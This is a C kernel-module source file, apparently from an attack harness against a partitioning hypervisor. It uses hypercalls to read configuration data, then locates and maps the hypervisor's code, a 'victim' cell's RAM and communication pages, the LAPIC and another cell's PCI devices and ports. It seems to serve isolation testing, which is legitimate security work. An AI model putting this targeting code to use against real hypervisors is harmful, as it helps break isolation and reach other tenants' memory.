// SPDX-License-Identifier: GPL-2.0-only
/* Where memory and functions are that others own: from what the hypervisor tells a driver. */
#include <linux/io.h>
#include <linux/mm.h>
#include <linux/slab.h>
#include <bulkhead/comm.h>
#include <bulkhead/config.h>
#include <bulkhead/public.h>
#include <bulkhead/root.h>
#include "attack.h"

#define NOBODY 0xa00000000ull
#define MESSAGES 0xfee02000ull
#define LAPIC 0xfee00000ull
#define HV_OFFSET 0x1000   /* code */
#define VICTIM_END 0x10000 /* from the end of its RAM: nothing but its pattern */

int attack_victim = 1, attack_holder = 2;
u32 attack_victim_apic;

static u64 address[PLACES];
static void *mapped[PLACES];
static const struct bh_public *public;
static void *blob, *holder_blob, *system_blob;
static struct page *own;

long attack_call(u64 number, u64 a, u64 b, u64 c)
{
	long value;

	if (boot_cpu_data.x86_vendor == X86_VENDOR_AMD)
		asm volatile("vmmcall"
			     : "=a"(value)
			     : "a"(number), "D"(a), "S"(b), "d"(c)
			     : "memory");
	else
		asm volatile("vmcall"
			     : "=a"(value)
			     : "a"(number), "D"(a), "S"(b), "d"(c)
			     : "memory");
	return value;
}

static void *ask(u64 what, u64 id)
{
	void *buffer = kzalloc(BH_CONFIG_MAX_SIZE, GFP_KERNEL);

	if (buffer && attack_call(BH_HC_ROOT_READ, what, virt_to_phys(buffer), id) > 0)
		return buffer;
	kfree(buffer);
	return NULL;
}

static const void *table(const void *from, const struct bh_table *t)
{
	return (const char *)from + t->offset;
}

static void find_cell(void)
{
	const struct bh_cell_config *c = blob;
	const struct bh_config_memory *m = table(c, &c->memory);
	const struct bh_config_link *l = table(c, &c->links);
	const struct bh_config_cpu *cpu = table(c, &c->cpus);
	const struct bh_config_memory *last = &m[c->memory.count - 1];

	attack_victim_apic = cpu->apic_id;
	address[PLACE_VICTIM] = last->hpa + last->size - VICTIM_END;
	address[PLACE_STATE] = l->hpa;
	address[PLACE_OUTPUT] = l->hpa + BH_PAGE_SIZE + l->rw_size + l->peer * l->output_size;
	address[PLACE_COMM] = public->cell[attack_victim].comm_hpa;
}

static int find_all(void)
{
	struct bh_root_state *state = ask(BH_ROOT_STATE, 0);

	blob = ask(BH_ROOT_CELL, attack_victim);
	holder_blob = ask(BH_ROOT_CELL, attack_holder);
	system_blob = ask(BH_ROOT_SYSTEM, 0);
	own = alloc_page(GFP_KERNEL | __GFP_ZERO);
	if (!state || !blob || !system_blob || !own) {
		kfree(state);
		return -ENODEV;
	}
	address[PLACE_HV] = state->piece_hpa[0] + HV_OFFSET;
	address[PLACE_PUBLIC] = state->piece_hpa[0] + state->public_offset;
	address[PLACE_NOBODY] = NOBODY;
	address[PLACE_MESSAGES] = MESSAGES;
	address[PLACE_LAPIC] = LAPIC;
	address[PLACE_OWN] = page_to_phys(own);
	kfree(state);
	public = __va(address[PLACE_PUBLIC]);
	find_cell();
	return 0;
}

int places_find(void)
{
	int err = find_all(), place;

	for (place = 0; place < PLACES && !err; place++) {
		if (place == PLACE_NOBODY || place == PLACE_MESSAGES || place == PLACE_LAPIC)
			mapped[place] = (void __force *)ioremap(address[place], PAGE_SIZE);
		else
			mapped[place] = __va(address[place]);
		err = mapped[place] ? 0 : -ENOMEM;
	}
	if (err)
		places_forget();
	return err;
}

void places_forget(void)
{
	int place;

	for (place = PLACE_NOBODY; place <= PLACE_LAPIC; place++)
		if (mapped[place])
			iounmap((void __iomem *)mapped[place]);
	kfree(blob);
	kfree(holder_blob);
	kfree(system_blob);
	if (own)
		__free_page(own);
}

u64 place_address(enum place place)
{
	return address[place];
}

void *place_map(enum place place)
{
	return mapped[place];
}

u64 place_stray(void)
{
	return READ_ONCE(public->cell[0].stray);
}

u64 place_of_holder_ram(void)
{
	const struct bh_cell_config *c = holder_blob;
	const struct bh_config_memory *m = c ? table(c, &c->memory) : NULL;

	return m ? m->gpa : 0;
}

u64 place_beyond_holder_ram(u64 hpa)
{
	const struct bh_cell_config *c = holder_blob;
	const struct bh_config_memory *m = c ? table(c, &c->memory) : NULL;

	return m ? m->gpa + hpa - m->hpa : 0;
}

u32 place_slots(u32 *bdf, u32 max)
{
	const struct bh_system_config *c = system_blob;
	const struct bh_config_slot *slot = table(c, &c->slots);
	u32 n;

	for (n = 0; n < c->slots.count && n < max; n++)
		bdf[n] = slot[n].bdf;
	return n;
}

u64 place_ecam(u32 bdf)
{
	const struct bh_system_config *c = system_blob;

	if (c->ecam_hpa == BH_ADDR_NONE)
		return 0;
	return c->ecam_hpa + ((u64)bdf << 12) - ((u64)c->ecam_bus_first << 20);
}

/* The first function that the holder owns, and its first BAR. 0: none */
int place_holds_function(u32 *bdf, u64 *bar)
{
	const struct bh_cell_config *c = holder_blob;
	const struct bh_config_pci *p;

	if (!c || !c->devices.count)
		return 0;
	p = table(c, &c->devices);
	*bdf = p->host_bdf;
	*bar = p->bar[0].hpa;
	return 1;
}

u16 place_port(u32 n)
{
	const struct bh_cell_config *c = holder_blob;
	const struct bh_config_port *p;

	if (!c || n >= c->ports.count)
		return 0;
	p = table(c, &c->ports);
	return p[n].first;
}
